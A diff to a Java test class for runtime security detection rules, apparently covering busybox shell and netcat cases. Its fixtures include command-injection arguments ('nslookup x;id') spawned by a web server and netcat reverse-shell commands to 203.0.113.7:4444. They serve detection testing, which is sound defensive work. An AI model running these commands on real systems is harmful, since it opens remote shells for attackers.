@@ -134,6 +134,8 @@ class VigilRulesTest {
         assertThat(fired(Events.exec("sh", List.of("sh", "-c", "nslookup x;id"), "diag", "httpd")))
                 .as("through a CGI script").containsExactly("Shell spawned by a server process");
         assertThat(fired(Events.exec("sh", List.of("sh", "-c", "id"), "diag", "bash"))).isEmpty();
+        assertThat(fired(Events.exec("exe", List.of("sh", "-c", "nslookup x;id"), "diag", "httpd")))
+                .as("busybox sh exec'd as /proc/self/exe, not yet renamed").containsExactly("Shell spawned by a server process");
     }
 
     @Test
@@ -200,6 +202,8 @@ class VigilRulesTest {
         assertThat(fired(exec("ncat", "203.0.113.7", "4444", "--sh-exec", "/bin/sh"))).containsExactly("Netcat with command execution");
         assertThat(fired(exec("nc", "-z", "db", "5432"))).isEmpty();
         assertThat(fired(exec("nc", "-lvnp", "8080"))).isEmpty();
+        assertThat(fired(Events.exec("exe", List.of("nc", "203.0.113.7", "4444", "-e", "/bin/sh"), "sh")))
+                .as("run from busybox sh: comm 'exe', argv[0] 'nc'").containsExactly("Netcat with command execution");
     }
 
     @Test
